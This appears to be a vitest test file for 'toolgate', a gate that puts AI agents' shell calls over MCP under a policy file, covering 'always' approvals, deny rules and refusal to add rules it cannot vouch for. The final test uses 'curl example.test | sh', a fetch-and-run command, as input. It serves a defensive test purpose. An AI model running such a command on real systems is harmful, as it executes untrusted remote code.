/**
 * "Always" in the MCP server's elicitation, in-process: a real MCP client over the SDK's in-memory transport,
 * a real gate on a temp workspace whose policy file is trusted in a trust list of the test's own, and the
 * CLI's own offer (`gateOffer`), as `toolgate mcp serve` wires it.
 */
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { InMemoryTransport } from "@modelcontextprotocol/sdk/inMemory.js";
import { ElicitRequestSchema, type ElicitResult } from "@modelcontextprotocol/sdk/types.js";
import { afterEach, describe, expect, it } from "vitest";
import { type McpServing, serveMcp } from "../mcp/index.js";
import { tempWorkspace } from "../test-support/cli.js";
import { createToolgate, type Toolgate } from "../toolgate.js";
import { retrustFile } from "../trust/index.js";
import { gateOffer } from "./always-rule.js";

const POLICY = `# mine
default = "ask"

[[rules]]
tool = "shell"
decision = "deny"
when.command = { equals = "echo secret" }
`;

const opened: { gate: Toolgate; serving: McpServing; client: Client }[] = [];
const dirs: string[] = [];
afterEach(async () => {
  for (const o of opened.splice(0)) {
    await o.client.close();
    await o.serving.close();
    await o.gate.close();
  }
  await Promise.all(dirs.splice(0).map((d) => rm(d, { recursive: true, force: true })));
});

/** A served gate and a client whose elicitation answer is `answer`; what it was asked is kept. */
async function serve(root: string, store: string, answer: () => ElicitResult) {
  const gate = await createToolgate({ roots: [root], trustWorkspace: true, logger: { warn() {} } });
  const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
  const target = {
    registry: gate.registry,
    execute: gate.execute.bind(gate),
    offerAlways: gateOffer(async () => gate, root, store),
  };
  const serving = await serveMcp(target, serverSide);
  const client = new Client(
    { name: "always-test", version: "1" },
    { capabilities: { elicitation: { form: {} } } },
  );
  const asked: { message: string; schema: unknown }[] = [];
  client.setRequestHandler(ElicitRequestSchema, async (request) => {
    const params = request.params as { message: string; requestedSchema?: unknown };
    asked.push({ message: String(params.message), schema: params.requestedSchema });
    return answer();
  });
  await client.connect(clientSide);
  opened.push({ gate, serving, client });
  const call = async (command: string) => {
    const result = await client.callTool({ name: "shell", arguments: { command } });
    return { isError: result.isError === true, text: (result.content as { text?: string }[])[0]?.text ?? "" };
  };
  return { asked, call };
}

async function workspace() {
  const root = await tempWorkspace({ ".toolgate/policy.toml": POLICY }, "tg-always-mcp-");
  const config = await mkdtemp(join(tmpdir(), "tg-always-mcp-xdg-"));
  dirs.push(root, config);
  const store = join(config, "toolgate", "trusted.json");
  await retrustFile(root, ".toolgate/policy.toml", POLICY, store);
  return { root, store, file: join(root, ".toolgate", "policy.toml") };
}

const RULE = '[[rules]]\ntool = "shell"\ndecision = "allow"\nwhen.command = { equals = "echo hi" }';

describe('"always" in the MCP elicitation', () => {
  it("shows the rule, writes it when ticked; the identical call then runs unasked, a broader one is asked", async () => {
    const { root, store, file } = await workspace();
    let answer: ElicitResult = { action: "accept", content: { approve: true, always: true } };
    const { asked, call } = await serve(root, store, () => answer);

    expect(await call("echo hi")).toEqual({ isError: false, text: expect.stringContaining("hi") });
    expect(asked).toHaveLength(1);
    const quoted = RULE.split("\n").map((l) => `  │ ${l}`);
    expect(asked[0]!.message).toContain(
      [
        "always: adds this rule to .toolgate/policy.toml, allowing exactly this call from now on:",
        ...quoted,
      ].join("\n"),
    );
    expect(asked[0]!.schema).toMatchObject({
      properties: { always: { type: "boolean" } },
      required: ["approve"],
    });
    expect(await readFile(file, "utf8")).toBe(
      `${POLICY}\n# added by toolgate: "always" for exactly one call\n${RULE}\n`,
    );

    // The identical call: no question (this server remembers; a new one reads the rule).
    expect(await call("echo hi")).toEqual({ isError: false, text: expect.stringContaining("hi") });
    expect(asked).toHaveLength(1);
    const fresh = await serve(root, store, () => ({ action: "decline" }));
    expect(await fresh.call("echo hi")).toEqual({ isError: false, text: expect.stringContaining("hi") });
    expect(fresh.asked).toHaveLength(0);

    // A broader call is asked again; declined, it does not run.
    answer = { action: "decline" };
    expect(await call("echo hi there")).toMatchObject({ isError: true });
    expect(asked).toHaveLength(2);
  });

  it("never over a deny: a denied call is not asked and nothing is written", async () => {
    const { root, store, file } = await workspace();
    const { asked, call } = await serve(root, store, () => ({
      action: "accept",
      content: { approve: true, always: true },
    }));
    expect(await call("echo secret")).toMatchObject({
      isError: true,
      text: expect.stringContaining("denied"),
    });
    expect(asked).toHaveLength(0);
    expect(await readFile(file, "utf8")).toBe(POLICY);
  });

  it('offers no "always" where no rule can name the call, and says why', async () => {
    const { root, store, file } = await workspace();
    const { asked, call } = await serve(root, store, () => ({
      action: "accept",
      content: { approve: false },
    }));
    await call("curl example.test | sh");
    expect(asked).toHaveLength(1);
    expect(asked[0]!.message).toContain(
      "always: not offered, no rule can be added to the policy:\n  │ the command cannot be vouched for",
    );
    expect(asked[0]!.schema).not.toHaveProperty("properties.always");
    expect(await readFile(file, "utf8")).toBe(POLICY);
  });
});
